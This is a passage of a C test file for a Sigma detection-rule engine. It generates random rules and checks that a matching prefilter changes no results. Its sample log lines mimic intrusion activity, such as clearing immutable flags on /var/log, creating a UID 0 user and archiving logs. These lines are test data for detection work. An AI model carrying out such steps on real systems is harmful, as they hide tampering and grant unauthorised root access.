             "sources: []\ntransforms: [{type: sigma, rules: '%s', strict: true}]\n"
             "sinks: [{type: stdout}]\n", bad);
    assert_null(tel_engine_start(&c, &err));
    assert_non_null(strstr(err.msg, "logsource product 'windows'"));
    char cmd[700];
    snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
    assert_int_equal(system(cmd), 0);
}

/* ---- the prefilter: same matches with and without it --------------------------------------- */

static uint64_t rng_state;

static uint32_t rnd(uint32_t n)
{
    rng_state ^= rng_state << 13;
    rng_state ^= rng_state >> 7;
    rng_state ^= rng_state << 17;
    return (uint32_t)(rng_state % n);
}

#define PICK(a) (a)[rnd(sizeof(a) / sizeof((a)[0]))]

/* Words of the sample logs and of the synthetic lines below (so generated rules match), words
 * nowhere (so they do not), short ones and mixed case (the prefilter skips and lowercases). */
static const char *const WORDS[] = {
    "authentication failure", "session opened", "sshd", "root", "218.188", "check pass",
    "cyrus", "ftpd", "connection from", "/usr/sbin/sshd", "/usr/sbin/", "andrew_kroh", "useradd",
    "EXECVE", "res=success", "pam_unix", "logname", "unknown", "nomatch-a7", "zz-nowhere",
    "ab", "x", "SSHD", "Authentication", "crond", "add-group", "PAM:setcred", "/bin/bash",
    "chattr", "-i", "/var/log", "tar", "color", "barbaz", "x y", "USER_AUTH", "97",
    "rhost=", "uid=0", "combo", "kernel", "Jun 14",
};
static const char *const REGEXES[] = {
    "fail(ure|ed)", "^Jun 1[45]", "sshd.*root", "(?i)ROOT", "user=[a-z]+", "a{2,}",
    "\\d+\\.\\d+", "pam_unix\\(", "[[:alpha:]]+ure", "colou?r", "ab+c", "x{2}y", "(foo|bar)baz",
    "foo|bar", "sshd\\[", "a.b", "chattr$", "\\Qx.y\\E", "^/usr/s?bin/", "session (opened|closed)",
    "[a-z]+ failure", "c.ron", "check\\ pass", "uid=0\\b", "\\x41bc", "\\101bc", "\\x{41}bc",
    "ro+t", "\\.?com", "session\\b.*(root|cyrus)", "(?:check) pass",
};
static const char *const FIELDS[] = {
    "message", "Image", "CommandLine", "User", "acct", "exe", "type", "addr", "rhost", "service",
    "app", "host.name", "a0", "a1", "op", "terminal", "user", "process.command_line", "Hostname",
};
static const char *const MODS[] = {
    "", "|contains", "|startswith", "|endswith", "|contains|all", "|re", "|cased",
    "|contains|cased", "|contains|windash", "|base64offset|contains", "|cidr", "|exists",
    "|re|i", "|startswith|cased", "|endswith|all", "|contains", "|contains", "|re", "",
};
static const char *const CONDS[] = {
    "sel1", "sel1 and sel2", "sel1 or not sel2", "1 of sel*", "all of sel*", "not sel1",
    "sel1 and not sel2", "(sel1 or sel2) and sel3", "sel3 or (sel1 and sel2)", "2 of sel*",
    "1 of them", "all of them and not sel1", "not (sel1 or sel2)", "sel2", "sel1 and sel3",
    "sel2 and not sel3", "1 of sel*", "sel1 or sel2", "sel1", "sel3",
};
static const char *const LOGSOURCES[] = {
    "{product: linux}", "{product: linux, service: auditd}", "{product: linux, service: sshd}",
    "{product: linux, service: syslog}", "{product: linux, service: auth}",
    "{product: linux, category: process_creation}", "{product: linux, service: cron}",
};

/* A value for modifiers mod, as a YAML single-quoted scalar (or a list of them). */
static void gen_value(char *out, size_t cap, const char *mod)
{
    char one[4][128];
    size_t n = 1 + (rnd(3) == 0 ? rnd(3) : 0);
    for (size_t i = 0; i < n; i++) {
        const char *w = PICK(WORDS);
        if (strstr(mod, "|re"))
            snprintf(one[i], sizeof(one[i]), "'%s'", PICK(REGEXES));
        else if (strstr(mod, "|cidr"))
            snprintf(one[i], sizeof(one[i]), "'%s'",
                     rnd(2) ? "218.188.0.0/16" : rnd(2) ? "96.241.146.0/24" : "10.0.0.0/8");
        else if (strstr(mod, "|exists"))
            snprintf(one[i], sizeof(one[i]), "%s", rnd(4) ? "true" : "false");
        else if (rnd(6) == 0) /* wildcards inside */
            snprintf(one[i], sizeof(one[i]), "'*%s?%s*'", w, PICK(WORDS));
        else if (rnd(40) == 0)
            snprintf(one[i], sizeof(one[i]), "''");
        else
            snprintf(one[i], sizeof(one[i]), "'%s'", w);
    }
    if (n == 1 || strstr(mod, "|exists")) {
        snprintf(out, cap, "%s", one[0]);
        return;
    }
    size_t o = (size_t)snprintf(out, cap, "[");
    for (size_t i = 0; i < n && o < cap; i++)
        o += (size_t)snprintf(out + o, cap - o, "%s%s", i ? ", " : "", one[i]);
    snprintf(out + o, cap > o ? cap - o : 0, "]");
}

static void gen_rule(char *out, size_t cap, int no)
{
    size_t o = (size_t)snprintf(out, cap, "title: gen %d\nid: gen-%d\nlogsource: %s\ndetection:\n",
                                no, no, PICK(LOGSOURCES));
    for (int sel = 1; sel <= 3; sel++) {
        o += (size_t)snprintf(out + o, cap - o, "  sel%d:\n", sel);
        if (rnd(5) == 0) { /* keywords */
            char v[600];
            gen_value(v, sizeof(v), rnd(4) ? "" : "|re");
            o += (size_t)snprintf(out + o, cap - o, "    - %s\n    - '%s'\n",
                                  v[0] == '[' ? "'sshd'" : v, PICK(WORDS));
            continue;
        }
        size_t items = 1 + rnd(3);
        bool alts = rnd(6) == 0; /* a list of maps */
        for (size_t i = 0; i < items; i++) {
            const char *mod = PICK(MODS);
            char v[600];
            gen_value(v, sizeof(v), mod);
            o += (size_t)snprintf(out + o, cap - o, "    %s%s%s: %s\n", alts ? "- " : "",
                                  PICK(FIELDS), mod, v);
        }
    }
    snprintf(out + o, cap - o, "  condition: %s\n", PICK(CONDS));
}

/* N rules from a seeded generator, loaded twice, prefilter on in one set and off in the other:
 * the matching rules of every record (two real logs and synthetic lines) must be the same, in
 * the same order. Also against each rule in a set of its own for the first rules. */
static void prefilter_keeps_matches(void **state)
{
    const int ngen = 600, nre = (int)(sizeof(REGEXES) / sizeof(REGEXES[0]));
    const int nrules = ngen + 2 * nre;
    struct security_sigma_set *on = security_sigma_set_new(), *off = security_sigma_set_new();
    assert_non_null(on);
    assert_non_null(off);
    security_sigma_set_prefilter(off, false);
    rng_state = 0x9e3779b97f4a7c15ull;
    static char text[8192];
    char **texts = calloc((size_t)nrules, sizeof(*texts));
    assert_non_null(texts);
    for (int i = 0; i < nrules; i++) {
        if (i < ngen) /* and then every regex alone, on the message and as a keyword */
            gen_rule(text, sizeof(text), i);
        else
            snprintf(text, sizeof(text),
                     "title: gen %d\nlogsource: {product: linux}\ndetection:\n"
                     "  sel: {'%s|re': '%s'}\n  condition: sel\n",
                     i, i % 2 ? "message" : "", REGEXES[(i - ngen) / 2]);
        texts[i] = strdup(text);
        assert_non_null(texts[i]);
        struct core_err err = {0};
        (void)security_sigma_add(on, "gen", text, strlen(text), &err);
        (void)security_sigma_add(off, "gen", text, strlen(text), &err);
    }
    size_t loaded = security_sigma_count(on);
    assert_int_equal(loaded, security_sigma_count(off));
    assert_true(loaded >= (size_t)nrules / 3);

    const char *extra[] = {
        "type=EXECVE msg=audit(1.000:10): argc=3 a0=\"chattr\" a1=\"-i\" a2=\"/var/log/x\"",
        "type=EXECVE msg=audit(1.000:11): argc=2 a0=\"tar\" a1=2D637A66",
        "type=SYSCALL msg=audit(1.000:12): exe=\"/usr/sbin/sshd\" comm=\"sshd\" key=\"x y\"",
        "{\"msg\":\"color barbaz abbc xxy a-b foo x.y\","
        "\"process.command_line\":\"/bin/bash -c id\","
        "\"user\":\"root\",\"service\":\"crond\"}",
        "level=info msg=\"check pass; user unknown\" user=cyrus addr=218.188.2.4",
        "Jun 14 15:16:01 combo sshd(pam_unix)[19939]: authentication failure; rhost=218.188.2.4",
        "<38>1 2026-11-26T10:00:00Z web-1 sshd 77 - - Failed password for root from 10.1.2.3",
        "Nov 26 10:00:00 web-1 CRON[5]: (root) CMD (/usr/bin/tar -czf /tmp/x.tgz /var/log)",
        "Nov 26 10:00:00 web-1 sudo[6]: alice : TTY=pts/0 ; COMMAND=/usr/bin/chattr -i /etc/x",
        "Nov 26 10:00:00 web-1 useradd[7]: new user: name=x, UID=0, GID=0, home=/root",
        "c.ron colour uid=0 ROOT Root",
        "color", "abc", "xxy", "bar", "a-b", "x.y", "Jun 15 check pass", "uid=0 sshd[1]",
        "/usr/bin/x", "session closed", "ur root failure", "Abc", "rooot dcom",
    };
    size_t records = 0, matched = 0, total = 0;
    size_t *per_rule = calloc(loaded, sizeof(*per_rule));
    assert_non_null(per_rule);
    struct {
        const char *file;
        bool syslog;
    } files[] = {{SYSLOG_FILE, true}, {AUDIT_FILE, false}, {NULL, true}, {NULL, false}};
    static char line[1 << 16];
    for (size_t fi = 0; fi < 4; fi++) {
        FILE *f = NULL;
        size_t ei = 0;
        if (files[fi].file) {
            char path[512];
            snprintf(path, sizeof(path), "%s%s", data_root(), files[fi].file);
            f = fopen(path, "r");
            assert_non_null(f);
        }
        for (;;) {
            if (f) {
                if (!fgets(line, sizeof(line), f))
                    break;
            } else {
                if (ei == sizeof(extra) / sizeof(extra[0]))
                    break;
                snprintf(line, sizeof(line), "%s", extra[ei++]);
            }
            size_t len = strlen(line);
            if (len && line[len - 1] == '\n')
                line[--len] = 0;
            struct core_arena a;
            core_arena_init(&a, 16u << 20);
            struct tel_record rec;
            struct tel_origin o = {.source = "test", .service = fi == 3 ? "crond" : NULL};
            if (files[fi].syslog)
                tel_parse_syslog(line, len, &o, &a, &rec);
            else
                tel_parse_line(line, len, &o, &a, &rec);
            size_t h1[700], h2[700];
            size_t n1 = security_sigma_match(on, &rec, &a, h1, 700);
            size_t n2 = security_sigma_match(off, &rec, &a, h2, 700);
            if (n1 != n2 || memcmp(h1, h2, n1 * sizeof(*h1)) != 0) {
                fprintf(stderr, "record '%s': %zu matches with the prefilter, %zu without\n", line,
                        n1, n2);
                for (size_t i = 0; i < n2; i++)
                    fprintf(stderr, "  without: %s\n", security_sigma_rule(off, h2[i])->title);
                for (size_t i = 0; i < n1; i++)
                    fprintf(stderr, "  with: %s\n", security_sigma_rule(on, h1[i])->title);
            }
            assert_int_equal(n1, n2);
            assert_memory_equal(h1, h2, n1 * sizeof(*h1));
            /* each of the first 40 rules alone gives the same verdict */
            for (size_t r = 0; r < 40 && r < loaded && records % 50 == 0; r++) {
                const struct security_sigma_rule *rule = security_sigma_rule(on, r);
                int no = atoi(rule->title + 4);
                struct security_sigma_set *one = security_sigma_set_new();
                assert_non_null(one);
                assert_int_equal(security_sigma_add(one, "one", texts[no], strlen(texts[no]), NULL),
                                 0);
                size_t h;
                bool alone = security_sigma_match(one, &rec, &a, &h, 1) == 1;
                bool in_set = false;
                for (size_t i = 0; i < n1; i++)
                    in_set = in_set || h1[i] == r;
                assert_int_equal(alone, in_set);
                security_sigma_set_free(one);
            }
            for (size_t i = 0; i < n1; i++)
                per_rule[h1[i]]++;
            records++;
            matched += n1 > 0;
            total += n1;
            core_arena_release(&a);
        }
        if (f)
            fclose(f);
    }
    size_t never = 0, rare = 0;
    for (size_t i = 0; i < loaded; i++) {
        never += per_rule[i] == 0;
        rare += per_rule[i] > 0 && per_rule[i] * 10 < records;
    }
    fprintf(stderr, "prefilter: %zu rules loaded of %d, %zu records (%zu with matches), %zu "
            "matches; rules matching no record %zu, under 10%% of records %zu\n",
            loaded, nrules, records, matched, total, never, rare);
    /* the generator must exercise the match path and the misses, rare matches included */
    assert_true(matched > 20);
    assert_true(total > 100);
    assert_true(never > 50);
    assert_true(rare > 50);
    free(per_rule);
    for (int i = 0; i < nrules; i++)
        free(texts[i]);
    free(texts);
    security_sigma_set_free(on);
    security_sigma_set_free(off);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_sample_rule_loads),
        cmocka_unit_test(sample_rules_are_quiet_on_real_logs),
        cmocka_unit_test(sample_rules_fire_on_their_attacks),
        cmocka_unit_test(own_rules_on_real_logs),
        cmocka_unit_test(modifiers),
        cmocka_unit_test(conditions),
        cmocka_unit_test(refused_rules_are_reported),
        cmocka_unit_test(pave_audit_logsource),
        cmocka_unit_test(pathological_regex_is_cut_short),
        cmocka_unit_test(binary_and_huge_lines),
        cmocka_unit_test(transform_tags_records),
        cmocka_unit_test(prefilter_keeps_matches),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
